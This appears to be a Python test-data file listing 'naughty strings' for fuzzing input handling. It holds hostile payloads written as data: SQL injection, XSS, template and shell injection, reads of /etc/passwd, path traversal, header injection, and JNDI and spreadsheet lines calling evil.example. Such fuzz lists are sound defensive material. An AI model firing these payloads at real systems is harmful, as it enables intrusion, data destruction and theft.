"""Text that breaks naive code, by what it breaks."""

NAUGHTY: dict[str, list[str]] = {
    "SQL": ["'; DROP TABLE listings; --", "1' OR '1'='1", "\\'; SELECT pg_sleep(5); --", "$$; SELECT 1; $$", "%_%"],
    "markup": [
        "<script>alert(1)</script>",
        "\"'><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "<svg/onload=alert(1)>",
        "&lt;b&gt; &amp; &#39;",
        "]]><!--",
    ],
    "templates": ["{{7*7}}", "${7*7}", "#{7*7}", "{% raw %}", "%s%n%d", "{0.__class__}", "{en}", "`id`"],
    "shells and paths": [
        "$(touch /tmp/x)",
        "; ls -la",
        "| cat /etc/passwd",
        "../../../../etc/passwd",
        "..\\..\\boot.ini",
    ],
    "spreadsheets": ["=1+1", "@SUM(1,1)", "+1", "-1", '=HYPERLINK("http://evil.example")'],
    "NUL and controls": ["\0", "a\0b", "\x01\x02\x1b[31m", "\x7f\x85", "a\r\nSet-Cookie: x=1", "\t \n"],
    "directions": ["\u202eabc\u202c", "\u2066\u2069", "عربى", "\u200f\u200e"],
    "nothing to see": ["\u200b", "\ufeff", "\u00a0", "\u3000", "\u2060x", ""],
    "far planes": ["🍓👩‍🌾🏽", "𠮷野家", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤a̖l̸g̕o", "ﷺ" * 20, "e\u0301", "ﬁ", "\U0010ffff", "\ufffe\uffff"],
    "halves of characters": ["\ud800", "a\udfffb", "\udc00\ud800"],
    "long": ["长" * 300, "x" * 5000, "a" * 100_000],
    "words of machines": ["null", "undefined", "NaN", "true", "-0", "1e400", "0x10", "None", "[object Object]"],
    "logs": ["%0d%0aINFO: ok", "${jndi:ldap://evil.example/a}", '{"level":"error"}', "\\u0000"],
}
